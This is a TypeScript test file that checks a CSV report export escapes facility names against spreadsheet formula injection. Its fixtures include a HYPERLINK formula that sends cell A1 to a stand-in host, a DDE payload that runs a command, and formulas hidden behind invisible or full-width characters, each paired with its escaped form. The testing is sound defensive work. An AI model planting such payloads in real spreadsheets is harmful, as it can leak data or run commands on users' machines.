/** The figures as CSV: what a spreadsheet makes of names that strangers have typed. */
import { expect, it } from 'vitest';
import { reportCsv } from '../../src/page/csv.ts';
import { KENDAL } from '../support/invented-nights.ts';

function nameIn(name: string, language: 'id' | 'en'): string {
  const facts = { ...KENDAL, facilities: [{ name, landed: 1, waiting: 2, forPerson: 3 }] };
  const line = reportCsv(facts, language, 'Asia/Jakarta')
    .split('\r\n')
    .find((each) => each.startsWith('facility'));
  const [separator, end] = language === 'id' ? [';', ';landed;1'] : [',', ',landed,1'];
  expect(line?.endsWith(end)).toBe(true);
  return line?.slice(`facility${separator.repeat(3)}`.length, -end.length) ?? '';
}

it.each([
  ['an ordinary name', 'Puskesmas Boja I', 'Puskesmas Boja I'],
  ['a formula', '=HYPERLINK("https://x.example?"&A1)', '"\'=HYPERLINK(""https://x.example?""&A1)"'],
  ['a sum', '+62 Klinik', "'+62 Klinik"],
  ['a difference', '-2+3', "'-2+3"],
  ['a function of Lotus', '@SUM(A1)', "'@SUM(A1)"],
  ['a command of DDE', "|cmd'/c calc'!A0", "'|cmd'/c calc'!A0"],
  ['a formula behind a blank or a tab', ' \t=1+1', "'=1+1"],
  ['a formula behind what is not seen', '\u200b=1+1', "'=1+1"],
  ['a formula in full-width signs', '＝1+1', "'＝1+1"],
  ['a comma', 'RSUD, Kendal', '"RSUD, Kendal"'],
  ['a semicolon', 'RSUD; Kendal', '"RSUD; Kendal"'],
  ['a line break', 'RSUD\nKendal', 'RSUD Kendal'],
])('%s', (_, name, written) => {
  for (const language of ['id', 'en'] as const) expect(nameIn(name, language)).toBe(written);
});

it('each line has the columns of the first, and each value is a whole number', () => {
  const [head, ...lines] = reportCsv(KENDAL, 'en', 'Asia/Jakarta').trimEnd().split('\r\n');
  expect(head).toBe('\ufeffpart,from,until,name,measure,value');
  for (const line of lines) {
    expect(line.split(',')).toHaveLength(6);
    expect(line).toMatch(/,-?\d+$/);
  }
  expect(lines).toContain('away,2026-11-27 23:02:00,2026-11-27 23:37:00,,ms,2100000');
  expect(lines.filter((line) => line.startsWith('minute,'))).toHaveLength(KENDAL.night?.minutes.length ?? -1);
});
